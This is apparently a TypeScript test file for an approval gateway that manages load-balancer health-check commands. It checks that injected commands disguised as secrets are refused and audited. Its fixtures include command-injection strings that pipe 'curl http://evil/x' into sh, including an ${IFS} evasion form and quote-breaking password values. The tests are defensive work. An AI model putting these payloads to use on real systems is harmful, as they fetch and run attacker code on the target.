import { createHash } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { givenApprovals } from './given-approvals.ts';

const change = (command: string) => ({
  recipe: undefined,
  parameters: { name: 'check_tcp' },
  operation: 'updateFarmguardian',
  body: { command },
});

describe('a command that a caller dresses up as a secret', () => {
  it.each([
    'check_tcp; curl http://evil/x|sh # -----BEGIN PRIVATE KEY-----MIIB',
    'check_tcp token: curl evil',
    'check_tcp password="; curl http://evil/x|sh"',
    "check_tcp --password '; curl http://evil/x|sh'",
    'check_tcp http://;curl${IFS}evil|sh;@x',
    'check_tcp secret=curl',
    'check_tcp Authorization: curl evil',
    'check_tcp cookie: evil',
    'check_tcp -a evil',
    'check_tcp api_key = evil',
  ])('does not wait for an approver, who would not see it: %s', async (command) => {
    const { ask, sent } = await givenApprovals({
      admin: { approvals: { requiredFor: ['disruptive', 'destructive'], ttlMs: 1_800_000, selfApproval: false } },
    });

    const asked = await ask('alice', change(command));

    expect(asked.json).toMatchObject({ code: 'cannot_wait', detail: expect.stringContaining('in command') as string });
    expect(sent()).toEqual([]);
  });

  it('does not wait in a field for a secret either, nor is it kept', async () => {
    const { ask } = await givenApprovals();

    const asked = await ask('eve', {
      recipe: undefined,
      operation: 'setSnmp',
      parameters: {},
      body: { community: 'curl evil' },
    });

    expect(asked.json).toMatchObject({ code: 'cannot_wait' });
  });

  it('is in the audit with its length and its digest, in both records, where it is sent', async () => {
    const { call, audit } = await givenApprovals();
    const body = { command: 'check_tcp -H HOST; curl http://evil/x|sh # -----BEGIN KEY-----MIIB' };

    await call('root', 'PUT', '/appliances/lb-1/monitoring/fg/check_tcp', body, { 'x-confirm': 'lb-1' });

    const sha256 = createHash('sha256').update(JSON.stringify(body)).digest('hex');
    expect((await audit()).filter(({ event }) => event === 'intent' || event === 'outcome')).toMatchObject([
      {
        event: 'intent',
        body: { command: 'check_tcp -H HOST; curl http://evil/x|sh # -----BEGIN KEY-----[redacted 4 characters]' },
        body_sha256: sha256,
      },
      { event: 'outcome', sent_sha256: sha256 },
    ]);
  });
});

it('a parameter with a token or a key is refused, in any spelling', async () => {
  const { ask, tokenOf } = await givenApprovals();
  const token = tokenOf('bob');
  const encoded = [...token].map((letter) => `%${letter.charCodeAt(0).toString(16)}`).join('');

  for (const farm of [token, `a ${token} b`, encoded])
    expect((await ask('alice', { parameters: { farm } })).json).toMatchObject({ code: 'malformed_body' });
});
